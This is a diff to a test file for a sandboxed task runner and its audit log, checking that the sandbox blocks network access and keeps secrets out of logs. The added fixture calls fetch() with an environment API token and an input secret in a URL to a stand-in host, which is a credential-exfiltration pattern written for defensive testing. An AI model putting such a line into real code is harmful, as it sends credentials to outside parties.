@@ -23,7 +23,10 @@ const WHERE = `function main(input) {
   let hostname;
   try { hostname = fs.readFileSync('/etc/hostname', 'utf8').trim(); } catch (e) { hostname = e.code; }
   console.log('got a secret:', typeof input.secret === 'string');
-  if (input.fail) throw new Error('rejected token ' + input.secret + ' / ' + process.env.API_TOKEN);
+  if (input.fail) {
+    try { fetch('http://user:' + process.env.API_TOKEN + '@api.example.com/v1?token=' + input.secret); } catch (e) {}
+    throw new Error('rejected token ' + input.secret + ' / ' + process.env.API_TOKEN);
+  }
   return { pid: process.pid, hostname, envSeen: process.env.API_TOKEN === ${JSON.stringify(SECRET_ENV)} };
 }`;
 const FETCH_METADATA = `function main() {
@@ -87,23 +90,28 @@ describe('hybrid execution mode', () => {
     const failed = await run('user-content', { secret: SECRET_INPUT, fail: true });
     expect(failed).toMatchObject({ status: 'failed', mode: 'sandboxed', error: { kind: 'TaskError' } });
     expect(failed.error!.message).toContain(SECRET_INPUT);
+    // The task's own report of the blocked fetch quotes the URL with both secrets in it.
+    expect(JSON.stringify(failed.violations)).toContain(SECRET_INPUT);
     audit.flush();
 
     const text = readFileSync(logFile, 'utf8');
     expect(text).not.toContain(SECRET_INPUT);
     expect(text).not.toContain(SECRET_ENV);
     const lines = auditLines(logFile);
-    expect(lines).toHaveLength(3);
-    for (const l of lines) {
-      expect(l).toMatchObject({ event: 'run', policy_hash: expect.stringMatching(/^[0-9a-f]{16}$/), usage: { wall_ms: expect.any(Number) }, violations: [] });
+    const runs = lines.filter((l) => l.event === 'run');
+    expect(runs).toHaveLength(3);
+    expect(lines.filter((l) => l.event === 'violation')).toEqual([expect.objectContaining({ kind: 'network', source: 'task', detail: expect.stringContaining('http://api.example.com/v1'), run_id: failed.id })]);
+    for (const l of runs) {
+      expect(l).toMatchObject({ event: 'run', policy_hash: expect.stringMatching(/^[0-9a-f]{16}$/), usage: { wall_ms: expect.any(Number) }, violations: expect.any(Array) });
       expect(typeof l.time).toBe('string');
     }
-    expect(lines[0]).toMatchObject({ task: 'legacy-tool', trust_level: 'system', mode: 'legacy', unsafe: true, level: 'warn', runtime: 'none', result_kind: 'Succeeded', run_id: legacy.id });
-    expect(lines[1]).toMatchObject({ task: 'user-content', trust_level: 'untrusted', mode: 'sandboxed', unsafe: false, level: 'info', runtime: 'bwrap', result_kind: 'Succeeded', run_id: sandboxed.id });
-    expect(lines[2]).toMatchObject({ task: 'user-content', status: 'failed', result_kind: 'TaskError', run_id: failed.id });
+    expect(runs[0]!.violations).toEqual([]);
+    expect(runs[0]).toMatchObject({ task: 'legacy-tool', trust_level: 'system', mode: 'legacy', unsafe: true, level: 'warn', runtime: 'none', result_kind: 'Succeeded', run_id: legacy.id });
+    expect(runs[1]).toMatchObject({ task: 'user-content', trust_level: 'untrusted', mode: 'sandboxed', unsafe: false, level: 'info', runtime: 'bwrap', result_kind: 'Succeeded', run_id: sandboxed.id });
+    expect(runs[2]).toMatchObject({ task: 'user-content', status: 'failed', result_kind: 'TaskError', run_id: failed.id });
     // Same policy, same hash; the legacy task's (system) differs.
-    expect(lines[1]!.policy_hash).toBe(lines[2]!.policy_hash);
-    expect(lines[0]!.policy_hash).not.toBe(lines[1]!.policy_hash);
+    expect(runs[1]!.policy_hash).toBe(runs[2]!.policy_hash);
+    expect(runs[0]!.policy_hash).not.toBe(runs[1]!.policy_hash);
   });
 
   it('a legacy run still stops at its wall time, and a task that throws is TaskError', async () => {
